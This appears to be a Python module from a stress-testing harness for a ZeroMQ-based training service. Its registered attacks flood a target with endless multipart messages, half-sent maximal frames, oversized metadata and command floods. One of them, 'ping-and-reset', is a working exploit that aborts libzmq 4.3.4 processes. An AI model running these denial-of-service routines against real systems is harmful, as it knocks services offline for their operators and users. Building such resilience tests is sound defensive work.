"""Attacks by what flows on a connection: frames and messages without an end, or without bounds."""

import envelope
import zmtp
from attacks import crowd
from attacks.envelopes import flood
from attacks.registry import IDLE, attack

# A frame of one byte with more to come: 3 bytes to send, about 64 to keep.
_ENDLESS = zmtp.frame(b"x", more=True) * 100_000


@attack("endless-multipart")
def endless_multipart(target):
    """A message of one-byte frames that never ends; from strangers, who come back when cut off."""
    return crowd.shout(target, 2, _ENDLESS)


@attack("endless-multipart-crowd")
def endless_multipart_crowd(target):
    """Messages that never end, but slowly, on 300 connections."""
    data = zmtp.frame(b"x", more=True) * 1_000
    opened = crowd.connect(target, target.scaled(300), hellos=target.hellos())
    sent = 0
    while not target.is_over:
        for one in opened:
            try:
                one.setblocking(False)
                sent += one.send(data)
            except OSError:
                pass
        target.rest(0.2)
    crowd.hang_up(opened)
    return {"megabytes": round(sent / 1e6, 1)}


@attack("endless-multipart-member", by=IDLE)
def endless_multipart_member(target):
    """A message of one-byte frames that never ends, from an admitted peer."""
    return flood(target, _ENDLESS)


@attack("unfinished-frames")
def unfinished_frames(target):
    """300 connections announce the largest frame and send all of it but the last byte."""
    length = target.identity.largest_frame
    data = zmtp.header(length) + bytes(length - 1)
    opened = crowd.connect(target, target.scaled(300), hellos=target.hellos())
    for one in opened:
        if target.is_over:
            break
        try:
            one.settimeout(1)
            one.sendall(data)
        except OSError:
            pass
    count = len(opened)
    target.rest(target.seconds)
    crowd.hang_up(opened)
    return {"held": count, "bytes of each": length}


@attack("ready-metadata")
def ready_metadata(target):
    """300 connections whose READY command has thousands of properties."""
    return _bring_metadata(target)


@attack("metadata-in-slices", transports=("tcp",))
def metadata_in_slices(target):
    """The same in many small segments, each no larger than an honest first message."""
    return _bring_metadata(target, segment=1_000)


def _bring_metadata(target, segment=None):
    count = (target.identity.largest_frame - 1_000) // 16
    more = b"".join(zmtp.metadata(b"X%07d" % index, b"abc") for index in range(count))
    total = 0
    held = []
    while not target.is_over:
        if len(held) < target.scaled(300):
            found = crowd.connect(
                target, min(32, target.scaled(300) - len(held)), more=more, segment=segment)
            total += len(found)
            held += found
        target.rest(0.05)
    crowd.hang_up(held)
    return {"held": total}


@attack("large-messages")
def large_messages(target):
    """Messages of the largest frames, without an envelope and with one, on eight connections."""
    blob = bytes(target.identity.largest_frame)
    body = envelope.field(3, 1)
    told = envelope.encode(
        envelope.RESULT, body, target.identity.version, payload_sizes=[len(blob)])
    return crowd.shout(target, 8, zmtp.message(blob) + zmtp.message(told, blob))


@attack("large-messages-member", by=IDLE)
def large_messages_member(target):
    """Results with whole gradients, for a round that is over, from an admitted peer."""
    blob = bytes(4 * target.identity.trainable_count)
    told = target.member.envelope(envelope.RESULT, envelope.field(3, 1), [len(blob)])
    return flood(target, zmtp.message(told, blob))


@attack("many-frames")
def many_frames(target):
    """Messages of 10,000 frames, of which a few are looked at."""
    data = zmtp.frame(b"x", more=True) * 10_000 + zmtp.frame(b"")
    return crowd.shout(target, 2, data)


@attack("empty-frames")
def empty_frames(target):
    """Messages of one empty frame, and of many."""
    data = zmtp.message(b"") * 500 + zmtp.message(*[b""] * 200)
    return crowd.shout(target, 2, data)


@attack("small-messages")
def small_messages(target):
    """Messages of a few bytes, as fast as they go, from strangers."""
    beat = envelope.encode(envelope.HEARTBEAT, b"", target.identity.version)
    return crowd.shout(target, 4, zmtp.message(beat) * 2_000)


@attack("commands")
def commands(target):
    """PING, PONG, SUBSCRIBE and commands that do not exist, which libzmq answers by itself."""
    data = b"".join([
        zmtp.command(b"PING", b"\0\0" + b"context of 16 by") * 200,
        zmtp.command(b"PONG", b"context of 16 by") * 200,
        zmtp.command(b"SUBSCRIBE", b"topic") * 200,
        zmtp.command(b"CANCEL", b"topic") * 200,
        zmtp.command(b"NOTHING", b"x" * 200) * 20,
    ])
    return crowd.shout(target, 2, data)


@attack("ping-and-reset", least=2)
def ping_and_reset(target):
    """Fills the queue of unread messages, PINGs among them, and resets the connection.

    What libzmq has read and not passed on is looked at when the queue has room again. A PING found
    then is answered on a connection that is no more, which libzmq 4.3.4 takes for its own error and
    aborts the process.
    """
    beat = envelope.encode(envelope.HEARTBEAT, b"", target.identity.version)
    data = (zmtp.message(beat) + zmtp.command(b"PING", b"\0\0abcd")) * 4_000
    count = 0
    while not target.is_over:
        opened = crowd.connect(target, 8)
        for one in opened:
            one.setblocking(False)
            try:
                while one.send(data):
                    pass
            except OSError:
                pass
        count += len(opened)
        # At different times, since nobody tells when the queue is full.
        for one in opened:
            target.rest(0.002)
            zmtp.close_abruptly(one)
    return {"connections": count}


@attack("large-commands")
def large_commands(target):
    """Commands as large as a frame may be, and a second READY."""
    data = zmtp.command(b"PING", b"\0\0" + bytes(target.identity.largest_frame - 100))
    return crowd.shout(target, 4, data + zmtp.ready() + data)
